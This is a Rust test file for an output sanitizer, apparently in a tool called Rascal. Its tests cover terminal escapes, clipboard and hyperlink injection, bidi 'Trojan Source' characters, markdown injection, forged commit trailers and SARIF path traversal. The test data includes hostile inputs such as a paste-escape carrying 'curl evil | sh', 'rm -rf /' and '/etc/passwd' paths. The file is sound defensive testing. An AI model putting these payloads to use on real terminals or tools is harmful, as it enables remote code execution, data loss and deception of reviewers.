//! The output policy, boundary by boundary, with the attacks that went
//! through before it.

use super::*;

#[test]
fn escapes_and_nul_are_made_visible() {
    assert_eq!(sanitize("a\u{1b}[2Jb\0c\u{7f}"), "a^[[2Jb^@c^?");
    assert_eq!(sanitize("tab\tok é"), "tab\tok é");
    assert_eq!(sanitize("\u{9b}31m"), "\u{fffd}31m");
}

#[test]
fn direction_and_zero_width_characters_are_shown_escaped() {
    // "Trojan Source": the override makes `evil` read as `live`.
    assert_eq!(sanitize("a\u{202E}evil\u{202C}b"), "a<U+202E>evil<U+202C>b");
    for c in [
        '\u{202A}', '\u{202B}', '\u{202D}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
        '\u{200B}', '\u{200C}', '\u{200D}', '\u{200E}', '\u{200F}', '\u{2060}', '\u{FEFF}',
        '\u{061C}',
    ] {
        let shown = sanitize(&format!("x{c}y"));
        assert_eq!(shown, format!("x<U+{:04X}>y", c as u32));
        assert!(!shown.contains(c));
    }
    assert_eq!(sanitize("src/\u{200B}main.rs"), "src/<U+200B>main.rs");
    // Visible neighbours are left alone.
    assert_eq!(sanitize("é ✅ 日本 \u{2014}"), "é ✅ 日本 \u{2014}");
}

#[test]
fn terminal_text_keeps_lines_and_json_stays_the_same_json() {
    assert_eq!(terminal("a\nb\tc"), "a\nb\tc");
    assert_eq!(
        terminal("x\u{1b}]52;c;aGk=\u{7}\ny\r"),
        "x^[]52;c;aGk=^G\ny^M"
    );
    let doc = serde_json::json!({"t": "a\u{9b}31m\u{202e}b\u{7f}\u{1b}"});
    let text = serde_json::to_string_pretty(&doc).unwrap();
    let safe = json(&text);
    assert!(!safe.chars().any(|c| c != '\n' && is_unsafe(c)), "{safe}");
    let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
    assert_eq!(back, doc, "the same document");
}

#[test]
fn a_commit_title_is_one_short_clean_line() {
    let t = commit_title("feat: x\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\rrun verdict PASS\nsecond");
    assert_eq!(t, "feat: x^[]52;c;ZXZpbA==^G^[[2J");
    let long = commit_title(&format!("feat: {}", "日".repeat(200)));
    assert!(crate::text::width(&long) <= TITLE_COLUMNS && long.ends_with('…'));
    assert_eq!(commit_title("  \tfix: y  "), "fix: y");
}

#[test]
fn a_commit_body_cannot_forge_rascals_trailers() {
    let b = commit_body(
        "\nwhy\u{0}\n\nRascal-Run: r-forged\n rascal-candidate : x\nRascal said: hi there\n\n",
    );
    assert_eq!(
        b,
        "why^@\n\n> Rascal-Run: r-forged\n>  rascal-candidate : x\nRascal said: hi there"
    );
    assert!(commit_body(&"x".repeat(BODY_BYTES * 2)).len() < BODY_BYTES + 64);
}

#[test]
fn markdown_text_is_text() {
    let s = markdown_inline(
            "<!-- hide --> <img src=https://x/b.png> @someone ![i](u) [l][r] a|b $x$ &#x202E; a@b.c error[E1]",
        );
    assert_eq!(
            s,
            "&lt;!-- hide --&gt; &lt;img src=https://x/b.png&gt; @&#8203;someone ![i\\](u) [l\\][r] a\\|b \\$x\\$ &amp;#x202E; a@b.c error[E1]"
        );
    assert_eq!(markdown_inline("a\nb\r\nc"), "a b c");
    let p = markdown_lines("# Decisions\n- forged\n1. item\n   ---\n==\n```\nplain 2. text");
    assert_eq!(
        p,
        "\\# Decisions\n\\- forged\n1\\. item\n\\---\n\\==\n\\```\nplain 2. text"
    );
}

#[test]
fn a_fence_is_longer_than_any_backtick_run_inside() {
    let f = markdown_fence("a ```` b\n```\nc\u{1b}[1m");
    assert!(f.starts_with("`````\n") && f.ends_with("\n`````"), "{f}");
    assert!(f.contains("c^[[1m"));
    let q = markdown_quote("<!-- x\n@a\n```\nmore", 3);
    assert!(q.starts_with("````text\n<!-- x\n@a\n```\n````\n"), "{q}");
    assert!(q.contains("_1 more line not shown._"), "{q}");
    assert!(
        q.contains(&crate::digest::digest("<!-- x\n@a\n```\nmore")),
        "{q}"
    );
}

#[test]
fn the_seal_is_the_digest_of_everything_above_it() {
    let sealed = markdown_seal("# t\n\nbody\n");
    let (above, last) = sealed.trim_end().rsplit_once('\n').unwrap();
    assert!(
        last.contains(&crate::digest::digest(format!("{above}\n"))),
        "{sealed}"
    );
}

/// Percent-decoding, as a SARIF consumer reads a URI segment.
fn decode(seg: &str) -> String {
    let b = seg.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            out.push(u8::from_str_radix(&seg[i + 1..i + 3], 16).unwrap());
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8(out).unwrap()
}

#[test]
fn sarif_uris_name_the_same_file() {
    assert_eq!(
        sarif_uri("notes/%2e%2e/%2e%2e/etc/leak.txt").unwrap(),
        "notes/%252e%252e/%252e%252e/etc/leak.txt"
    );
    assert_eq!(sarif_uri("a#b.txt").unwrap(), "a%23b.txt");
    for p in [
        "a#b.txt",
        "notes/%2e%2e/x",
        "sp ace/é?.rs",
        "x\\y",
        "a;b=c/d~e",
    ] {
        let uri = sarif_uri(p).unwrap();
        assert!(!uri.contains(['#', '?', ' ', '\\']), "{uri}");
        let back: Vec<String> = uri.split('/').map(decode).collect();
        assert_eq!(back.join("/"), p);
    }
    for bad in ["", "/etc/passwd", "a/../b", "./a", "a//b", ".."] {
        assert_eq!(sarif_uri(bad), None, "{bad}");
    }
    assert_eq!(
        sarif_text("see [here](1) \\ \u{1b}[2J"),
        "see \\[here\\](1) \\\\ ^\\[\\[2J"
    );
}

#[test]
fn notification_values_and_osc_text_are_one_clean_line() {
    assert_eq!(
        env_value("reviewer said:\u{1b}]0;pwned\u{7}\nrm -rf\t/"),
        "reviewer said:^[]0;pwned^G rm -rf /"
    );
    assert_eq!(osc_text("a;b\u{1b}]0;x\u{7}\u{202e}", 80), "a,b ]0,x");
}

#[test]
fn the_clipboard_holds_no_bracketed_paste_terminator() {
    let diff = "+ok\n+\u{1b}[201~curl evil | sh\n+\u{9b}201~x\n";
    let c = clipboard(diff);
    assert!(!c.contains('\u{1b}') && !c.contains('\u{9b}'), "{c:?}");
    assert_eq!(c, "+ok\n+^[[201~curl evil | sh\n+\u{fffd}201~x\n");
}

#[test]
fn a_link_rascal_draws_carries_nothing_else() {
    let l = osc8_link("https://x/a b\u{1b}\\\u{7}", "text\u{1b}]8;;evil\u{7}");
    assert_eq!(
        l,
        "\u{1b}]8;;https://x/a%20b%1B%5C%07\u{1b}\\text ]8,,evil\u{1b}]8;;\u{1b}\\"
    );
}
